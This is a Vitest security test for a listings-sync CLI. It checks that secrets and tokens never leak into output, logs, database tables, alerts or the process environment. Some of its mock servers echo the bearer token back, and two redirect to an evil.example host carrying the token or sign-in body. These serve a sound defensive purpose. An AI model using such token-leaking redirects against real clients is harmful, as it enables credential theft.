import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import { configured, type Ended, start, trestle } from '../helpers/cli.ts';
import type { FreshDatabase } from '../helpers/database.ts';
import { sandboxFor } from '../helpers/pipeline.ts';
import { type Asked, type Reply, scriptedServer, type ScriptedServer } from '../helpers/scripted-server.ts';
import { migratedDatabase } from '../helpers/template.ts';

/** With whatever is written another way in a URL, a form or JSON. */
const SECRET = 'geheim+wört/& "42"=%';
const HOSTILE_TOKEN = 'hostile.eyJhbGciOiJSUzI1NiJ9.0123456789abcdef';

/** Where something was seen → the text of it. */
type Seen = Map<string, string>;

/** All the ways in which a secret could be written down, each cut short: a beginning is too much too. */
function formsOf(secret: string): string[] {
  const form = new URLSearchParams({ s: secret }).toString().slice(2);
  const inJson = JSON.stringify(secret).slice(1, -1);
  const inBase64 = Buffer.from(secret).toString('base64');
  const forms = [secret, form, encodeURIComponent(secret), encodeURI(secret), inJson, inBase64];
  return forms.map((each) => each.slice(0, 12));
}

/** `PLACE: NAME` for every secret that stands anywhere. */
function leaks(seen: Seen, secrets: ReadonlyMap<string, string>): string[] {
  return [...seen].flatMap(([place, text]) =>
    [...secrets]
      .filter(([, secret]) => formsOf(secret).some((form) => text.includes(form)))
      .map(([name]) => `${place}: ${name}`),
  );
}

function filesBelow(folder: string, name: string): Seen {
  const files = readdirSync(join(folder, name), { recursive: true, withFileTypes: true }).filter((file) =>
    file.isFile(),
  );
  return new Map(
    files.map((file) => [`${name}/${file.name}`, readFileSync(join(file.parentPath, file.name), 'utf8')]),
  );
}

/** Every column of every row, as text. */
async function tablesOf(db: FreshDatabase): Promise<Seen> {
  const seen: Seen = new Map();
  for (const row of await db.query<Record<string, string>>('SHOW TABLES')) {
    const [table] = Object.values(row);
    const rows = await db.query(`SELECT * FROM \`${table}\``);
    const cells = rows.flatMap((each) => Object.values(each)).map((cell) => textOf(cell));
    seen.set(`table ${table}`, cells.join('\n'));
  }
  return seen;
}

function textOf(cell: unknown): string {
  if (typeof cell === 'string') return cell;
  return Buffer.isBuffer(cell) ? cell.toString('latin1') : (JSON.stringify(cell) ?? '');
}

/** A server that hands back whatever it was told, in every way it can. */
const bearer = (asked: Asked): string => asked.headers.authorization ?? 'no token';
const hostileAnswers: [name: string, data: (asked: Asked) => Reply][] = [
  ['an OData error', (asked) => ({ status: 400, body: { error: { message: `you sent ${bearer(asked)}` } } })],
  ['a refusal', (asked) => ({ status: 403, body: { error: { message: `not for ${bearer(asked)}` } } })],
  ['a failure', (asked) => ({ status: 500, body: { error: { message: bearer(asked) } } })],
  ['a quota', (asked) => ({ status: 429, headers: { 'retry-after': bearer(asked) }, body: bearer(asked) })],
  ['a page of HTML', (asked) => ({ body: `<html><body>${bearer(asked)}</body></html>` })],
  ['text', (asked) => ({ body: `${bearer(asked)} was sent` })],
  ['a content type', (asked) => ({ headers: { 'content-type': bearer(asked) }, body: '<html>' })],
  [
    'a redirect',
    (asked) => ({ status: 302, headers: { location: `https://evil.example/?t=${bearer(asked)}` } }),
  ],
  ['two tokens refused', (asked) => ({ status: 401, body: bearer(asked) })],
  ['the name of a member', (asked) => ({ body: { [bearer(asked)]: [] } })],
  ['a key', (asked) => ({ body: { value: 'none', '@odata.count': bearer(asked) } })],
];
const hostileSignIns: [name: string, token: (asked: Asked) => Reply][] = [
  ['a sign-in refused', (asked) => ({ status: 400, body: asked.body })],
  ['a sign-in refused with JSON', (asked) => ({ status: 401, body: { error: asked.body } })],
  ['a sign-in that fails', (asked) => ({ status: 500, body: asked.body })],
  ['a sign-in of HTML', (asked) => ({ body: `<html>${asked.body}</html>` })],
  ['a sign-in of text', (asked) => ({ body: asked.body })],
  ['a sign-in without a token', (asked) => ({ body: { form: asked.body } })],
  [
    'a sign-in elsewhere',
    (asked) => ({ status: 307, headers: { location: `https://evil.example/?${asked.body}` } }),
  ],
];

const seen: Seen = new Map();
/** Name → secret. */
const secrets = new Map<string, string>([['the client secret', SECRET]]);
let db: FreshDatabase;
let webhook: ScriptedServer;
let folder: string;

beforeAll(async () => {
  const sandbox = await sandboxFor({ listings: 120, clientSecret: SECRET });
  db = await migratedDatabase();
  webhook = await scriptedServer({});
  secrets.set('the password of MySQL', db.password);
  folder = configured(sandbox, db, {
    TRESTLE_CLIENT_SECRET: undefined,
    LOG_LEVEL: 'debug',
    PAGE_SIZE: '50',
    MAX_RETRIES: '1',
    RETRY_DEADLINE: '2s',
    ALERT_WEBHOOK_URL: `${webhook.origin}/hook`,
    ALERT_REPEAT: '1s',
  });
  const run = async (args: string, env: Record<string, string> = {}): Promise<Ended> => {
    const ended = await trestle(folder, args.split(' '), { TRESTLE_CLIENT_SECRET: SECRET, ...env });
    const name = `run ${seen.size}, ${args}`;
    seen.set(name, ended.stdout + ended.stderr);
    const { token } = JSON.parse(tokenFile() ?? '{}') as { token?: string };
    if (token !== undefined && ![...secrets.values()].includes(token))
      secrets.set(`the token of ${name}`, token);
    return ended;
  };
  const passes = async (args: string): Promise<void> => {
    expect({ args, ...(await run(args)) }).toMatchObject({ args, code: 0, stderr: '' });
  };
  await passes('migrate');
  await passes('full-load');
  const [bad] = sandbox.feed.corrupt(3);
  sandbox.feed.changePhotos(5);
  sandbox.faults.add({ kind: 'html' });
  sandbox.faults.add({ kind: 'revoke', skip: 1 });
  await passes('sync');
  const [gone] = sandbox.feed.removeListings(2);
  for (const args of ['reconcile', 'status --json', 'usage', 'plan sync', `why ${gone}`, `why ${bad}`])
    await passes(args);
  for (const args of ['quarantine list', `quarantine show ${bad}`, 'quarantine replay --all'])
    await run(args);
  await run('verify');
  await run('sync', { TRESTLE_CLIENT_SECRET: `not ${SECRET}` });
  await run('sync', { MYSQL_PASSWORD: `not ${db.password}` });
  const fails = async (name: string, server: ScriptedServer): Promise<void> => {
    const { code } = await run('sync', { TRESTLE_API_BASE_URL: server.base });
    expect({ name, code }).not.toMatchObject({ code: 0 });
    await server.close();
  };
  const given = { body: { access_token: HOSTILE_TOKEN, expires_in: 28_800 } };
  secrets.set('the hostile token', HOSTILE_TOKEN);
  for (const [name, data] of hostileAnswers) await fails(name, await scriptedServer({ data, token: given }));
  for (const [name, token] of hostileSignIns) await fails(name, await scriptedServer({ token }));
  await passes('sync');
  for (const each of [filesBelow(folder, 'logs'), filesBelow(folder, 'state'), await tablesOf(db)])
    for (const [place, text] of each) seen.set(place, text);
  webhook.asked.forEach((asked, n) => seen.set(`alert ${n}`, JSON.stringify(asked)));
  await webhook.close();
});

function tokenFile(): string | undefined {
  try {
    return readFileSync(join(folder, 'state', 'token.json'), 'utf8');
  } catch {
    return undefined;
  }
}

test('promise 19: after every command, whether it went well or not, the token in its cache is the only secret anywhere', () => {
  const found = leaks(seen, secrets);
  const cached = found.filter((leak) => leak.startsWith('state/token.json: the token of '));
  expect(found.filter((leak) => !cached.includes(leak))).toEqual([]);
  expect(cached).not.toHaveLength(0);
});

test('what was looked at is all there is: logs with what was hidden, tables with rows, alerts', () => {
  const places = [...seen.keys()];
  expect(secrets.size).toBeGreaterThanOrEqual(5);
  expect(places.filter((place) => place.startsWith('run ')).length).toBeGreaterThan(30);
  expect(places.filter((place) => place.startsWith('logs/')).length).toBeGreaterThanOrEqual(5);
  expect(places.filter((place) => place.startsWith('alert '))).not.toHaveLength(0);
  const withRows = places.filter((place) => place.startsWith('table ') && seen.get(place) !== '');
  expect(withRows).toEqual(
    expect.arrayContaining(['table properties', 'table media', 'table etl_sync_log', 'table etl_quarantine']),
  );
  const hidden = places.filter((place) => seen.get(place)!.includes('[hidden]'));
  expect(hidden).toEqual(expect.arrayContaining(['table etl_sync_log']));
  expect(hidden.filter((place) => place.startsWith('logs/errors.'))).toHaveLength(1);
  expect(hidden.filter((place) => place.startsWith('run '))).not.toHaveLength(0);
});

test('promise 19: while it runs, the list of processes and the environment show none of what .env holds', async () => {
  const sandbox = await sandboxFor({ listings: 60, clientSecret: 'geheim-und-mehr' });
  const own = await migratedDatabase();
  const home = configured(sandbox, own, { PAGE_SIZE: '20' });
  const during: Seen = new Map();
  sandbox.onRequest = () => {
    for (const file of ['cmdline', 'environ', 'comm']) {
      during.set(file, readFileSync(`/proc/${running.child.pid}/${file}`, 'latin1'));
    }
    during.set('ps', execFileSync('ps', ['axwwo', 'pid,args'], { encoding: 'utf8' }));
  };
  const running = start(home, ['sync']);
  expect(await running.ended).toMatchObject({ code: 0, stderr: '' });
  const { token } = JSON.parse(readFileSync(join(home, 'state', 'token.json'), 'utf8')) as { token: string };
  const held = new Map([
    ['the client secret', sandbox.clientSecret],
    ['the password of MySQL', own.password],
    ['the token', token],
  ]);
  expect(during.get('ps')).toMatch(new RegExp(`${running.child.pid} .*main\\.js sync`));
  expect(during.get('environ')).toContain(home);
  expect(leaks(during, held)).toEqual([]);
});
